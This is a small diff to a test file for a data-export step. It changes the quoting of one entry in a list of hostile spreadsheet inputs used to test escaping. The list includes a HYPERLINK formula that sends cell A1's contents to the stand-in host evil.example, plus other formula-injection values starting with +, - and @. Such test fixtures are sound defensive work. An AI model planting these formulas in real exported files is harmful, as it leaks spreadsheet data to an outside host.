@@ -23,7 +23,7 @@ from steps.export.rows import (
 
 HOSTILE = [
     'She said "hi",\nthen left;\r\nbye',
-    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
     "+1+2",
     "-2+3",
     "@SUM(A1:A9)",
